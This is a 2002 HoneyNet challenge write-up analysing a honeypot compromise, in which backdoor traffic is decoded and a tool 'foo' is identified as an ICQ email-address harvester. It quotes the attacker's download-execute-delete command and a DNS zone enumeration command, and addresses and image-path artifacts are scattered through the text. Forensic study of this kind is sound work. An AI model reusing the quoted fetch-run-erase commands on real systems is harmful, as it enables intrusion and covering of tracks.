HoneyNet Challenge Analysis

Scan 22 – August 2002

Analysis by Kevin Peuhkurinen
August 12, 2002

The Challenge

After penetrating the Linux system using the WU-FTPD vulnerability, the attacker deployed a backdoor binary and then proceeded to use the system for certain nefarious activity. Your mission, should you choose to accept it, is to determine what the activity was and how it was accomplished. All the necessary evidence is contained in thesnort binary capture file. The IP address of the honeypot is

Preliminary Steps

As the basis of this attack was the backdoor binary that was the subject of the Reverse Challenge from May 2002, the first step was to read some of the analyses from that Challenge. Of particular value to me was the advisory written by (CoPS) Lab at the University of North Texas, and located here:

To summarize, the backdoor binary listens for IP packets which have the protocol number set to 11.  As these packets arrive statelessly, the source IP address can be spoofed.  These packets have a type number, which is either 2 for command or 3 for reply. The rest of the packets are trivially encoded to hide their contents.  Having loaded the Snort log in Ethereal, Icould see these packets, beginning at # 7.

In order to read the packets easily, I downloaded and used Dion Mendel's Perl script from the Reverse Challenge. It is located here:

I quickly (okay, it took a few minutes of head scratching) found a small typo in the script; on lines 59 and 87 the second $data[4]object should read $data[5]. After making the necessary change, I re-ran the script on the Snort log and studied the output: -> (handler -> agent)
Initialise agent.
All replies are sent to handler at
(plus 9 other randomly generated hosts)
--- -> (handler -> agent)
Execute the given command and send output to handler:
grep -i "zone" /etc/named.conf
--- -> (agent -> handler)
output of command executed by agent:
zone "." {
zone "0.0.127.in-addr.arpa" {(Snipped out the redundant packets going to bogus IP addresses) -> (agent -> handler)
end of output of command executed by agent
--- -> (handler -> agent)
Execute the given command, do not send output to handler:
killall -9 ttserve
--- -> (handler -> agent)
Execute the given command, do not send output to handler:
killall -9 ttserve
--- -> (handler -> agent)
Execute the given command, do not send output to handler:
killall -9 ttserve ; lynx -source > /tmp/ttserve ; chmod 755 /tmp/ttserve ; cd /tmp ; ./ttserve ; rm -rf /tmp/ttserve ./ttserve ;
--- -> (handler -> agent)
Executethe given command, do not send output to handler:
killall -9 lynx ; rm -rf /tmp/ttserve;
--- -> (handler -> agent)
Execute the given command, do not send output to handler:
killall -9 lynx ; rm -rf /tmp/ttserve;
--- -> (handler -> agent)
Execute the given command, do not send output to handler:
killall -9 lynx ; rm -rf /tmp/ttserve;

I must admit that following this, I spent about six hours becoming more and more baffled.  I was working under the assumption that 'foo' was an IRC bot. This assumption was given to me first by The Honeynet Projectitself,here.

The assumption was backed up when I started doing Google searches for some of the text that I found in 'foo' and the searches kept coming back with links to an IRC bot named “Puaj”.

Part of the problem I had with this is that I never use IRC. I briefly played around with multi-user BBSs back in the 1980's and since then have always felt that in terms of useful or even entertaining ways of spending time, electronic chat ranks well below scrubbing mildew from the cracks between my bathroom tiles.  Hence I did not even really know what an IRC bot was.

So, after spending some time reading about the many varied uses of IRC bots, I was unable to reconcile what I had learned with the behaviour of 'foo', which simply appeared to be requesting the home pages of IRC users.   Also, I was still wondering why an IRC hacker would care about the DNS zones hosted bythe system (the first command our hacker sent to the NVP Trojan). It was only then when I wasbeginning to seriously doubt my original assumption that I noticed something oddabout the behaviour of 'foo' that gave me a new idea about what the attacker's purpose might be.

I will elaborate on this in the answers section, but I have finally come to the conclusion that this attacker is a spammer or is working for spammers.


1. What is the attacker's IP Address?

This one is simple: It was sent to the NVP Trojan in the first packet. According to WHOIS, the attacking machine is located in New Zealand.

2. What is the attacker doing first? What do you think is his/her motivation for doing this?

The first thing the attacker does after initializing the trojan is to tell it to run the command:
grep -i "zone" /etc/named.conf
and send the output back to the attacker. If this system was operating as a DNS server, this command would list all of thezone names it served. Spammers are interested in enumerating domain names in order to find new places to send their unsolicitedemails.

3. Why there is some readable text in packets #17-#25 (and some others), but not in packets #15-#16 (and several others)? What differentiates these groups of packets from each other?

Actually, all of the response packets from the victim have some readable text in them; part of the command executed by the trojan and part of the response. This is due to sloppy coding on the part of the programmer who created the NVP Trojan. To understand why this is happening, I looked at Dion Mendel'ssource code for the reverse engineered binary.

If you are unfamiliar with C, this section may be confusing to you. If so, I apologize. I considered putting in a paragraph trying to describe how string buffer pointers work but figured that I would probably just end up make it more confusing.

At line 2,211 the code constructs a command string and stores it at a memory location pointed to by 'buffer' (using the dangerous sprintf() function which means that, ironically, the trojan may be vulnerable to buffer overflow attacks!). So, in our attack, we now have a string in memory that reads:
/bin/csh -f -c “grep -i “zone” /etc/named.conf" 1> /tmp/.hj237349 2>&1

This command is then sent to the system to be executed. Then, at line 2,219 we read up to the first 398 bytes of the result of the command to the same memory location. The memory that 'buffer' points to now looks like this:
zone “.” { zone “0.0.127.in-addr.arpa” { .conf" 1> /tmp/.hj237349 2>&1

Two lines later, the trojan copies the output part of this and sends it to the encode function with the result being placed in a new string at 'output_buffer'.

So far so good, but the programmer decided that she wanted each response packet to be a random size. What she does is tells the transmit function to start sending the contents of memorystarting at the 'output_buffer' pointer and to send 400 bytes plus an extra random number of bytes between one and two hundred. The programmer no doubt assumed that those extra bytes would look like garbage.Well, as I pointed out in my Preliminary Steps section, assumptions can be dangerous. In this case when the program was allocating memory for the strings, it must have given 'buffer' the memory that directly followed that given to 'output_buffer'. You can literally see the results:

In the first response packet (which is sent out 10 times – once to the handler and again to nine random IP addresses), the data section is 512 bytes which means 400 bytes of encoded (and also padded) data plus 112 bytes from the 'buffer' memory. This includes all of the text shown above plus some garbage.

In the second response packet, the data section is 463 bytes; 400 of encoded and padded data and 63 bytes of the text above. Counting it now, I see that I am off by a bit (okay, a bunchof bits), which means that there is probably a few bytes allocated to a integer between the two strings, but the theory still works.

Hence, the programmer has managed to do exactly what they meant to avoid; transmit suspicious looking traffic.

4. What is the purpose of 'foo'? Can you provide more insights about the internal workings of 'foo'? Do you think that 'foo' was coded by a good programmer or by an amateur?

The observed behaviour of foo is thus:

  1. Look up the IP address of web.icq.com
  2. Open an HTTP connection to the IP address using a source port starting at 1026 and incrementing by one each loop.
  3. Send GET /wwp?Uin=xxxxxxxx HTTP/1.0 Host:web.icq.com where xxxxxxxx is a number starting at 9207102 and incrementing by one each loop.
  4. Accept a number of packets in response, usually about 10-14.
  5. Send the GET request again. I think this is a bug.
  6. Close the TCP connection.
  7. Start over at step 1.

What finally clued me in the idea that the attacker is a spammer is step 4 above. Why, I wondered, didn't 'foo' wait for the full response from the icq.com server? Why was it closing the connectionhalf-way through the web page download? It took me a while but I finally realized that the last packet that 'foo' accepted was the packet that contained the ICQ user's email address. It could be coincidence but I can think of no other explanation for this behaviour: 'foo' is a tool of evil -- a real-life email address harvester.

With the exception of the HTTP GET command, the only readable text in 'foo' is from various pre-existing code such as gethostbyname and yplibc. This leads me to believe that the actual code was obfuscated either as source or during compiling to object code. Still, I can make a few observations about 'foo'. The first is that it contains its own DNS resolver, although it uses the locally configured DNS server name. Probably this is to ensure that it can use DNS even if the local system is not set up to do so, and it likely has a DNS server address to fall back on if it cannot find one in resolv.conf.

More interesting is the inclusion of the Network Information Service (formerly YP) library 'yplibc'. Obviously an email harvester isuseless if you cannot retrieve the email addresses it has found. My guess here is that 'foo' is opening an RPC listener process bound to a TCP or UDP port via which the attacker can request the list of email addresses found. This would eliminate the need for the original exploit and would ensure that no suspicious log files are left behind – which is something that the attacker seems concerned about (more on that later).

Finally on the question of the skill of the programmer, I have very little information on which to base an opinion but I would have to say that he or she is closer to amateur than to expert. My reasons for saying so are:

  1. 'foo' does a DNS lookup for web.icq.com every loop. Thisjust seems lazy, as though the programmer couldn't be bothered to put in the code to check every 100 loops which would have sped the program up.
  2. The program sends the HTTP GET command a second time just before closing the TCP connection. This must be a bug.
  3. A good programmer would have created a multi-threaded application to request several pages at once.
  4. A capable programmer who was concerned about fully hiding their purpose would not have linked in code that contained human readable text.

5. What is the purpose of './ttserve ; rm -rf /tmp/ttserve' as done by the attacker?

The full command line sent by the attacker is:

killall -9 ttserve ; lynx -source > /tmp/ttserve ; chmod 755 /tmp/ttserve ; cd /tmp ; ./ttserve ; rm -rf /tmp/ttserve ./ttserve ;

What the attacker is doing here is:

  1. Killing any process that might be running as 'ttserve'
  2. Downloading 'foo' to /tmp as 'ttserve'
  3. Making 'ttserve' executable
  4. Changing the current working directory to /tmp
  5. Launching 'ttserve'
  6. Deleting 'ttserve' from the disk

So the purpose of this part of the command is to execute the program then delete it from the disk so that it leaves no easily discernible traces. The attacker is obviously very concerned about this as he or she repeats the rm command three more times.

6. How do you think the attacker will use the results of his activity involving 'foo'?

If my belief is correct and 'foo' is an email address harvester, the attacker will use the results of 'foo' to sent unsolicited commercial email to the poor ICQ users whose email addresses are ondisplay on their generated web pages. The other possibility is that the attacker is not a spammer him or herself but is in the business of selling email addresses to spammers.

Either way, the hapless ICQ users can look forward to seeing their in-boxes fill up with mail inviting them to hotteen sex sites, offering cheap viagara alternatives, and pleadings to help the daughters of former Nigerian dictators.

